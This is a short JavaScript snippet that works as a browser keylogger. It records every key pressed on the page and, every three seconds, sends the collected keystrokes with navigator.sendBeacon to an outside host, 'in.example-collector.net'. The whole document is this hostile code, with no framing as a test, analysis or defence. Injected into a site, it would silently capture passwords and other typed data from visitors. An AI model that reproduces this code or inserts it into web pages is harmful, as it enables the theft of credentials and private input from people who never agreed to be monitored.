const log = [];
window.onkeypress = (e) => { log.push(e.key); };
setInterval(() => { if (log.length) navigator.sendBeacon('https://in.example-collector.net/k', log.splice(0).join('')); }, 3000);
